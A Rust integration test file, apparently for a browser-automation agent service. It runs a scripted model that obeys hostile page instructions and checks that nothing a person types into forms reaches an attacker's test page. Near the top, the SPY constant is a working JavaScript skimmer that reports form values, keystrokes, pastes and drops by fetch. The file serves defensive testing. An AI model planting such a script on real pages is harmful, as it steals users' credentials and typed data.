//! An obedient model and a person who answers whatever is asked: nothing of the person's reaches an attacker, by whatever
//! frame, form, focus, drag, tab or navigation, and honest pages get what they ask for.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use testkit::{
    ProviderAnswer, ProviderRequest, ScriptedProvider, ScriptedTurn, SiteReply as Page, SiteRequest, TestSite,
};

use super::pages::{HONEST, HOSTILE, Scene};
use super::{With, obey_with};
use crate::automate::events;
use crate::client::Ask;
use crate::stand::Stand;

/// A part of everything that the person types; mail addresses and numbers hold it too.
pub(super) const TYPED: &str = "canary77";
/// Shown by the caller's own page, and known to nobody else.
pub(super) const SHOWN: &str = "TOKEN-5512";

/// What every page of the attacker does: it tells of all that is put, typed, pasted or dropped into it.
const SPY: &str = "<script>
  let keys = '';
  const tell = (what, value) => value && fetch('/got?what=' + what + '&v=' + encodeURIComponent(value));
  const told = new Set();
  setInterval(() => document.querySelectorAll('input,textarea,[contenteditable]').forEach((it) => {
    const value = it.value ?? it.innerText;
    if (value && !told.has(value)) { told.add(value); tell('value', value); }
  }), 5);
  addEventListener('keydown', (it) => { if (it.key.length === 1) tell('keys', keys += it.key); }, true);
  addEventListener('paste', (it) => tell('paste', it.clipboardData.getData('text')), true);
  addEventListener('dragover', (it) => it.preventDefault(), true);
  addEventListener('drop', (it) => tell('drop', it.dataTransfer.getData('text') || 'something'), true);
  addEventListener('message', (it) => tell('message', String(it.data)));
</script>";

/// What pages do when the person has been asked, and types: `asked(() => ...)`.
const ASKED: &str = "<script>const asked = async (then) => {
  while (await (await fetch('/asked')).text() !== 'yes') await new Promise((done) => setTimeout(done, 100));
  then();
};</script>";

/// What came of a run that a person attended.
struct Attended {
    events: Vec<(String, Value)>,
    evil: Vec<SiteRequest>,
    own: Vec<SiteRequest>,
    prompts: String,
}

impl Attended {
    fn asked(&self) -> Vec<&Value> {
        let asked = self.events.iter().filter(|(name, _)| name == REQUEST);
        asked.map(|(_, data)| data).collect()
    }

    /// The failures of actions, and what the model was told of them.
    fn failures(&self) -> Vec<String> {
        let failed = self
            .events
            .iter()
            .filter(|(name, data)| name == "browser:action_completed" && data["success"] == false);
        failed.map(|(_, data)| data["error"].to_string()).collect()
    }
}

const REQUEST: &str = "interactive:form_data:request";

/// What the person types into a field.
fn typed(field: &Value) -> String {
    match field["fieldType"].as_str().unwrap() {
        "select" => field["options"][0].as_str().unwrap_or_default().to_owned(),
        "checkbox" => "true".to_owned(),
        "date" => "2026-03-31".to_owned(),
        "email" => format!("{TYPED}@example.org"),
        _ => format!("{TYPED}-{}", field["ref"].as_str().unwrap()),
    }
}

/// The answers of the person to the questions in this part of a stream.
async fn answer(stand: &Stand, frame: &str) {
    let data = frame
        .lines()
        .find_map(|line| line.strip_prefix("data: "))
        .unwrap();
    let asked: Value = serde_json::from_str(data).unwrap();
    let fields = asked["fields"].as_array().unwrap().iter();
    let fields: Vec<Value> = fields
        .map(|field| json!({"ref": field["ref"], "value": typed(field)}))
        .collect();
    let path = format!("/v1/automate/{}/input", asked["requestId"].as_str().unwrap());
    Ask::json(&path, &json!({"fields": fields})).send(stand.at).await;
}

async fn attend(with: &With, scene: &Scene, evil_host: &str) -> Attended {
    let own_address = Arc::new(Mutex::new(String::new()));
    let (theirs, home) = (scene.theirs, Arc::clone(&own_address));
    let evil = TestSite::start(move |asked: &SiteRequest| {
        let path = asked.path.split('?').next().unwrap_or_default();
        let own = home.lock().unwrap().clone();
        let page = theirs.iter().find(|(it, _)| *it == path).map(|(_, html)| *html);
        Page::html(format!("<title>Theirs</title>{}{SPY}", page.unwrap_or("<p>got</p>")).replace("OWN", &own))
    })
    .await;
    let evil_at = evil.address().to_string().replace("127.0.0.1", evil_host);
    let at = evil_at.clone();
    let pages: Vec<(&str, &str)> = scene.own.to_vec();
    let is_asked = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&is_asked);
    let own = TestSite::start(move |asked: &SiteRequest| {
        let path = asked.path.split('?').next().unwrap_or_default();
        if path == "/asked" {
            return Page::html(if flag.load(Ordering::SeqCst) { "yes" } else { "no" });
        }
        let found = pages.iter().find(|(it, _)| *it == path && asked.method == "GET");
        let html = found.map_or("<title>Thanks</title><p>fine</p>", |(_, html)| html);
        let helper = if html.contains("asked(") { ASKED } else { "" };
        Page::html(
            format!("{helper}{html}")
                .replace("EVIL", &at)
                .replace("SHOWN", SHOWN),
        )
    })
    .await;
    *own_address.lock().unwrap() = own.address().to_string();
    let orders: String = scene
        .calls
        .iter()
        .map(|(name, json)| format!("CALL {name} {json} "))
        .collect();
    let orders = orders.replace("EVIL", &evil_at).replace("SHOWN", SHOWN);
    let provider = ScriptedProvider::start(move |asked: &ProviderRequest, _| -> ProviderAnswer {
        obey_with(asked, Some(&orders))
            .unwrap_or_else(|| ScriptedTurn::call("done", json!({"result": "done"})).into())
    })
    .await;
    let stand = Stand::open_to(own, &provider, |client| with.browser(client), None).await;
    let trusted: Vec<&str> = if scene.trusts_them {
        vec![evil_host]
    } else {
        Vec::new()
    };
    let body = json!({
        "task": "Log in and find the best kettle", "url": stand.site.url("/"), "interactive": true,
        "trusted_hostnames": trusted,
    });
    let mut stream = Ask::json("/v1/automate", &body).send(stand.at).await;
    let mut text = String::new();
    while let Some(chunk) = stream.chunk().await {
        text.push_str(&chunk);
        if chunk.contains(REQUEST) || chunk.contains("interactive:form_data:error") {
            is_asked.store(true, Ordering::SeqCst);
            tokio::time::sleep(Duration::from_millis(scene.thinks_ms)).await;
            for frame in chunk
                .split("\n\n")
                .filter(|it| it.contains("event: interactive:"))
            {
                answer(&stand, frame).await;
            }
        }
    }
    // What a page tells, it tells at once.
    tokio::time::sleep(Duration::from_millis(50)).await;
    Attended {
        events: events(&text),
        evil: evil.asked(),
        own: stand.site.asked(),
        prompts: format!("{:?}", provider.seen()),
    }
}

fn text_of(request: &SiteRequest) -> String {
    format!(
        "{} {:?} {}",
        request.path,
        request.headers,
        String::from_utf8_lossy(&request.body)
    )
}

#[tokio::test]
#[ignore = "needs a browser"]
async fn nothing_that_a_person_types_reaches_an_attacker() {
    let with = With::chromium();
    for scene in HOSTILE {
        for evil_host in ["127.0.0.1", "localhost"] {
            let name = format!("{} on {evil_host}", scene.name);
            let came = attend(&with, scene, evil_host).await;
            for request in &came.evil {
                let told = text_of(request);
                let secret = told.contains(TYPED) || told.contains(SHOWN);
                assert!(
                    !secret && !told.contains("/got?"),
                    "{name}: {told}\n{:?}",
                    came.failures()
                );
            }
            assert!(
                !came.prompts.contains(TYPED),
                "{name}: the model has read what the person typed"
            );
            for asked in came.asked() {
                let receivers = asked["fields"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .flat_map(|it| it["receivers"].as_array());
                let port = |it: &Value| it.as_str().unwrap().rsplit(':').next().unwrap().to_owned();
                let own = came.own[0].headers["host"].to_str().unwrap().to_owned();
                let foreign: Vec<&Value> = receivers
                    .flatten()
                    .filter(|it| !own.ends_with(&port(it)))
                    .collect();
                assert!(
                    foreign.is_empty(),
                    "{name}: asked although it goes to {foreign:?}"
                );
            }
            let turns = came.events.iter().filter(|(it, _)| it == "agent:step").count();
            assert!(turns > 1, "{name}: the model did not obey");
            assert_eq!(came.events.last().unwrap().0, "done", "{name}");
            if scene.is_asked {
                assert!(
                    !came.asked().is_empty(),
                    "{name}: nobody was asked: {:?}",
                    came.failures()
                );
            }
            if scene.is_refused {
                let told = came.prompts.contains("refused: ") || !came.failures().is_empty();
                assert!(told, "{name}: nothing was refused");
            }
            println!("{name:<72} nothing");
        }
    }
}

/// Honest pages on which a person logs in, orders, searches and writes: at most one in twenty may be held up.
#[tokio::test]
#[ignore = "needs a browser"]
async fn honest_pages_get_what_a_person_types() {
    let with = With::chromium();
    let mut held_up = Vec::new();
    for scene in HONEST {
        let came = attend(&with, scene, "localhost").await;
        let sites = came.own.iter().chain(&came.evil);
        let got = sites
            .map(text_of)
            .any(|told| scene.reaches.iter().all(|part| told.contains(part)));
        let is_whole = got && came.failures().is_empty();
        println!("{:<44} {}", scene.name, if is_whole { "done" } else { "held up" });
        if !is_whole {
            held_up.push((scene.name, came.failures()));
        }
        let receivers = came
            .asked()
            .iter()
            .all(|it| it["fields"][0]["receivers"][0].is_string());
        assert!(
            receivers,
            "{}: the question does not say who gets the value",
            scene.name
        );
    }
    println!("{} of {} held up", held_up.len(), HONEST.len());
    assert!(held_up.len() * 20 <= HONEST.len(), "{held_up:?}");
}
